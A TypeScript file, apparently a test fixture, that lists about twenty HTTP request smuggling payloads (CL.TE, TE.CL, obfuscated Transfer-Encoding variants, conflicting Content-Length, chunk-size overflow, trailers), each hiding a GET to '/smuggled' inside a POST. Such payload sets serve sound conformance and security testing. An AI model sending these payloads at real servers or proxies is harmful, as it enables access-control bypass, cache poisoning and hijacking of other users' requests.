/** Ways to hide a request in another one's body, from whoever reads lengths in another way. */

/** What is hidden asks for it. */
export const SMUGGLED = "/smuggled";

const HIDDEN = `GET ${SMUGGLED} HTTP/1.1\r\nHost: echo\r\n\r\n`;
const CHUNKED_HIDDEN = `0\r\n\r\n${HIDDEN}`;
const POST = "POST / HTTP/1.1\r\nHost: echo\r\n";

function withCoding(field: string, body = CHUNKED_HIDDEN): string {
  return `${POST}Content-Length: ${body.length}\r\n${field}\r\n\r\n${body}`;
}

/** Each a whole connection; the names are those that are common. */
export const SMUGGLING: Readonly<Record<string, string>> = {
  "CL.TE": withCoding("Transfer-Encoding: chunked"),
  "TE.CL": `${POST}Transfer-Encoding: chunked\r\nContent-Length: 4\r\n\r\n` +
    `${HIDDEN.length.toString(16)}\r\n${HIDDEN}\r\n0\r\n\r\n`,
  "TE.TE with another coding": withCoding("Transfer-Encoding: chunked\r\nTransfer-Encoding: x"),
  "TE.TE with a space before the colon": withCoding("Transfer-Encoding : chunked"),
  "TE.TE with a tab": withCoding("Transfer-Encoding:\tchunked"),
  "TE.TE with a vertical tab": withCoding("Transfer-Encoding: \x0bchunked"),
  "TE.TE with a NUL": withCoding("Transfer-Encoding: chunked\0"),
  "TE.TE with quotes": withCoding('Transfer-Encoding: "chunked"'),
  "TE.TE with identity": withCoding("Transfer-Encoding: identity, chunked"),
  "TE.TE behind a bare LF": withCoding("X: a\nTransfer-Encoding: chunked"),
  "TE.TE behind a bare CR": withCoding("X: a\rTransfer-Encoding: chunked"),
  "obs-fold TE": withCoding("Transfer-Encoding:\r\n chunked"),
  "obs-fold of another field": withCoding("X: a\r\n Transfer-Encoding: chunked"),
  "CL.CL": `${POST}Content-Length: ${HIDDEN.length}\r\nContent-Length: 0\r\n\r\n${HIDDEN}`,
  "CL.CL in a list": `${POST}Content-Length: ${HIDDEN.length}, 0\r\n\r\n${HIDDEN}`,
  "0.CL": `${POST}Content-Length: 0\r\nContent-Length : ${HIDDEN.length}\r\n\r\n${HIDDEN}`,
  "a length with a sign": `${POST}Content-Length: +0\r\n\r\n${HIDDEN}`,
  "a chunk that ends with LF": `${POST}Transfer-Encoding: chunked\r\n\r\n1\nx\n0\n\n${HIDDEN}`,
  "an extension with LF": `${POST}Transfer-Encoding: chunked\r\n\r\n1;\nx\r\n0\r\n\r\n${HIDDEN}`,
  "an extension with CR": `${POST}Transfer-Encoding: chunked\r\n\r\n1;\rx\r\n0\r\n\r\n${HIDDEN}`,
  "a chunk size that wraps":
    `${POST}Transfer-Encoding: chunked\r\n\r\n100000000000000001\r\nx\r\n0\r\n\r\n${HIDDEN}`,
  "a trailer": `${POST}Transfer-Encoding: chunked\r\n\r\n0\r\nContent-Length: 5\r\n\r\n${HIDDEN}`,
};
